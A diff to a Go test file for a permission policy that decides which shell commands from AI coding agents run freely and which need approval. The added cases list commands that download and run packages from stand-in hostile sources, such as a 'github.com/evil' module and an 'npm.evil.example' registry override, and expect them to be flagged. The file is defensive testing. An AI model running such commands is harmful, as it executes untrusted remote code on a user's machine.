@@ -122,9 +122,15 @@ func TestEffectsDeclaredRunnerRoutes(t *testing.T) {
 		{"pipx run cowsay", "", "ask"},
 		{"go run github.com/evil/x@latest", "", "ask"},
 		{"go run golang.org/x/toolsevil/cmd@latest", "", "ask"},
-		// A known limit (docs/policy.md): the project is the call's
-		// directory's; a cd inside the string is not followed.
-		{"cd /tmp && npx prettier .", "", "pass"},
+		// the project is the command's directory's, after a literal cd
+		{"cd /tmp && npx prettier .", "", "ask"},
+		{"cd web && npx astro build", "", "pass"},
+		{"cd web && npx prettier --check .", "", "pass"},
+		// another registry or index than the project's
+		{"npm_config_registry=https://npm.evil.example npx prettier .", "", "ask"},
+		{"UV_INDEX_URL=https://x.example/simple uvx ruff check .", "", "ask"},
+		{"GOPROXY=https://x.example go run golang.org/x/tools/cmd/stringer@latest", "", "ask"},
+		{"npx -p=evil prettier", "", "ask"},
 	}
 	for _, agent := range []string{"claude-code", "gemini"} {
 		for _, c := range cases {
